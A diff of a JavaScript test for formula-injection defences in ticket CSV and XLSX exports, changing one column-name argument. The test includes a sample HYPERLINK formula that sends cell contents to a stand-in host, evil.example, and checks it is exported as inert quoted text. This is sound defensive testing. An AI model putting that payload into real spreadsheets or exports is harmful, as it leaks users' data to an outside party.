@@ -94,7 +94,7 @@ describe('formula-like text in exports', () => {
     const csv = (await download(`${TICKETS}?format=csv`)).toString('utf8');
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
     expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
-    const titles = await xlsxColumn(await download(`${TICKETS}?format=xlsx`), 'Title');
+    const titles = await xlsxColumn(await download(`${TICKETS}?format=xlsx`), '*Title');
     // A text cell holding the quote: never a formula cell.
     expect(titles).toEqual([`'${ATTACK}`]);
   });
